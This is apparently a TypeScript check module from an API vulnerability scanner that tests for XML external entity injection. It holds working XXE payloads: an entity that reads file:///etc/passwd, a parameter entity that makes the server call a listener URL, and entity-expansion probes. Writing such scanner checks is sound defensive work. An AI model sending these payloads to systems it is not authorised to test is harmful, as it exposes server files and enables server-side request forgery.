import type { Check, CheckContext } from '../../model/check.ts';
import type { Exchange } from '../../model/exchange.ts';
import type { Proof } from '../../model/finding.ts';
import { Baits, isCalled } from './common/called.ts';
import type { Ground } from './common/ground.ts';
import { again, groundsOf, unlessGone } from './common/targets.ts';
import { word } from './common/words.ts';
import { type Declared, escaped, sendXml, spotsOf, xmlTypesOf } from './common/xml.ts';

export const check: Check = {
  id: 'xml-external-entity',
  group: 'injection',
  title: 'External entities of XML',
  practice: 'validate',
  cwe: 'CWE-611',
  owasp: 'API8:2023',
  severity: 'high',
  why: 'The XML parser follows the entities a document declares. Callers read files of the server and make it call addresses of their choice.',
  mend: 'Switch document types off in the parser, or at least external entities and parameter entities. Refuse bodies of types the contract does not name: the gate does.',
  async run(context) {
    const grounds = await groundsOf(context, ({ body, method }) => body !== undefined && method !== 'DELETE');
    const baits = new Baits<Ground>(context);
    await context.each(grounds, async (ground) => {
      await unlessGone(context, ground.operation, async () => {
        for (const type of xmlTypesOf(ground)) {
          await file(context, ground, type);
          await internal(context, ground, type);
          await sendXml(context, ground, type, external(await baits.lay(ground)));
        }
      });
      await ground.end();
    });
    for (const ground of await baits.caught(({ operation }) => operation.key)) await called(context, ground);
  },
};

const external = (url: string): Declared => ({
  subset: `<!ENTITY kq SYSTEM "${url}"><!ENTITY % kp SYSTEM "${url}">%kp;`,
  reference: '&kq;',
});

const PASSWD = /root:[^:\s]{0,120}:0:0:/;

/** A file of the server comes back. */
async function file(context: CheckContext, ground: Ground, type: string): Promise<void> {
  const { operation } = ground;
  for (const at of await spotsOf(context, ground)) {
    const show = async (): Promise<Proof | undefined> => {
      const exchange = await sendXml(context, ground, type, {
        subset: '<!ENTITY kq SYSTEM "file:///etc/passwd">',
        reference: '&kq;',
        at,
      });
      const found = passwdIn(exchange);
      if (found === undefined) return undefined;
      const control = await sendXml(context, ground, type, { subset: '<!ENTITY kq "plain">', reference: '&kq;', at });
      return passwdIn(control) === undefined
        ? { exchanges: [control, exchange], marks: [found.slice(0, 40)] }
        : undefined;
    };
    const proof = await show();
    if (!proof) continue;
    const message = `${operation.key} reads files that entities of its XML body name: it gave /etc/passwd`;
    await context.report({
      message,
      operation,
      place: 'the body',
      cause: operation.key,
      proof,
      again: again(context, ground, show),
    });
    return;
  }
}

const passwdIn = ({ answer }: Exchange): string | undefined => PASSWD.exec(answer.text.replaceAll('\\n', '\n'))?.[0];

/** Entities are expanded at all: no hole yet, but the door to it. */
async function internal(context: CheckContext, ground: Ground, type: string): Promise<void> {
  const { operation } = ground;
  const random = context.random(operation.key);
  const show = async (): Promise<Proof | undefined> => {
    const [left, right] = [word(random, 7), word(random, 7)];
    const exchange = await sendXml(context, ground, type, {
      subset: `<!ENTITY kp "${right}"><!ENTITY kq "${left}&kp;">`,
      reference: '&kq;',
    });
    if (!exchange.answer.text.includes(left + right)) return undefined;
    return { exchanges: [exchange], marks: [left + right] };
  };
  const proof = await show();
  if (!proof) return;
  await context.report({
    message: `${operation.key} takes XML with a document type and expands the entities it declares`,
    operation,
    place: 'the body',
    cause: `${operation.key} internal`,
    severity: 'informational',
    proof,
    again: again(context, ground, show),
  });
}

async function called(context: CheckContext, ground: Ground): Promise<void> {
  const { operation } = ground;
  for (const type of xmlTypesOf(ground)) {
    const show = again(context, ground, async (): Promise<Proof | undefined> => {
      const [named, bait] = [await context.bait(), await context.bait()];
      // A parser that fetches what any text names would be another weakness.
      const control = await sendXml(context, ground, type, { subset: '', reference: escaped(named.url) });
      const exchange = await sendXml(context, ground, type, external(bait.url));
      if (!(await isCalled(context, bait)) || named.called()) return undefined;
      return { exchanges: [control, exchange], marks: [bait.url] };
    });
    const proof = await show();
    if (!proof) continue;
    const message = `${operation.key} calls the address that an entity of its XML body names: the scanner's listener was called`;
    if (await context.report({ message, operation, place: 'the body', cause: operation.key, proof, again: show }))
      return;
  }
}
